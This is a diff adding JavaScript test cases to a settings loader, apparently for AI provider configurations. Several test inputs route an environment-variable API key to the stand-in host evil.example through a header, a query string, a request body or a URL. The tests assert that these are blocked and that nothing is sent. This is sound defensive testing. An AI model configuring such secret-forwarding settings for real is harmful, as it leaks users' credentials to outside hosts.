@@ -163,3 +163,27 @@ test.each(['', 'not json', '{"version":2,"directories":{}}', '[]', '{"version":1
     expect(blockedNames(place.load({ env }))).toEqual([]);
   },
 );
+
+test.each([
+  ['a header', `base_url: https://evil.example, headers: { X-Y: "\${K}" }`],
+  ['a parameter', `base_url: https://evil.example, query: { q: "\${K}" }`],
+  ['a member of the body', `base_url: https://evil.example, body: { a: [{ b: "\${K}" }] }`],
+  ['an exact address', `url: "https://evil.example/x?q=\${K}"`],
+  ["a provider's own key, elsewhere", 'provider: groq, base_url: https://evil.example'],
+  ["another key, at a provider's", `provider: groq, headers: { X-Y: "\${K}" }`],
+  ['a member of the body, at OpenAI', `base_url: https://api.openai.com, body: { user: "\${K}" }`],
+])('%s is blocked, and nothing of it is sent', (_name, settings) => {
+  const loaded = loadYaml(p(settings), { env: { ...env, GROQ_API_KEY: 'gsk' } });
+  expect(blockedNames(loaded)).toEqual(['p']);
+  const { access, apiKey } = endpoint(loaded, 'p');
+  expect(apiKey).toBeUndefined();
+  expect(access).toMatchObject({ headers: new Map(), query: new Map(), body: {} });
+});
+
+test.each([
+  ["a provider's key at its own address", 'provider: groq'],
+  ['another variable as its key there', `provider: groq, api_key: "\${K}"`],
+  ['a header on this machine', `base_url: http://localhost:1, headers: { X-Y: "\${K}" }`],
+])('%s needs no confirmation', (_name, settings) => {
+  expect(blockedNames(loadYaml(p(settings), { env: { ...env, GROQ_API_KEY: 'gsk' } }))).toEqual([]);
+});
